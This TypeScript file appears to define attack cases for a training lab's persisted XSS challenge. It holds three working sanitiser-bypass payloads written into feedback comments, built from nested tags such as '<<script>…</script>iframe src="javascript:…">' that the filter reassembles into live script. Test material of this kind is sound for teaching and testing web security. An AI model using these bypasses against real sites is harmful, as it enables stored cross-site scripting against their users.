import type { Attack, Tools } from '#lab'
import { PAYLOAD, writeFeedback } from './steps.ts'

async function leave(tools: Tools, comment: string): Promise<void> {
  tools.expect((await writeFeedback(tools, comment)).includes(PAYLOAD), 'the filter keeps it out')
}

export const attacks: Attack[] = [
  {
    challenge: 'persistedXssFeedbackChallenge',
    name: 'a tag that is put together by the filter itself',
    run: (tools) => leave(tools, '<<script>Foo</script>iframe src="javascript:alert(`xss`)">'),
  },
  {
    challenge: 'persistedXssFeedbackChallenge',
    name: 'the payload behind a decoy',
    run: (tools) => leave(tools, 'javascript: <<img>iframe src="javascript:alert(`xss`)">'),
  },
  {
    challenge: 'persistedXssFeedbackChallenge',
    name: 'two of them, one hidden deeper than the other',
    run: (tools) => leave(tools, `<<img>${PAYLOAD.slice(1)} <<<img>img>${PAYLOAD.slice(1)}`),
  },
]
